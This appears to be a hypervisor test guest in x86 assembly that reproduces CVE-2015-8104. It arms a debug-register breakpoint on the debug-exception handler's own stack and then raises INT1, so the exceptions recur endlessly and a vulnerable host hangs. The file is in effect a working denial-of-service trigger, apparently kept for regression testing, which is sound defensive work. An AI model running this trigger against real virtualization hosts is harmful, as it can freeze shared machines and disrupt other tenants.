// Never ends, and never executes an instruction of its handler: each delivery of a debug exception meets the breakpoint on
// the stack that it writes to, so that the next comes before anything else. CVE-2015-8104.
#include "guest.inc"
guest:
  call set_up
  lea stack_of_handler(%rip), %rax
  mov %rax, task_state+36(%rip)         // IST1
  movb $1, idt+16*1+4(%rip)
  sub $8, %rax                          // where SS goes
  mov %rax, %dr0
  mov $0x90001, %eax                    // L0: writes, 8 bytes
  mov %rax, %dr7
  .byte 0xF1                            // INT1
1:
  jmp 1b
  .bss
  .balign 16
  .skip 1024
stack_of_handler: .skip 16
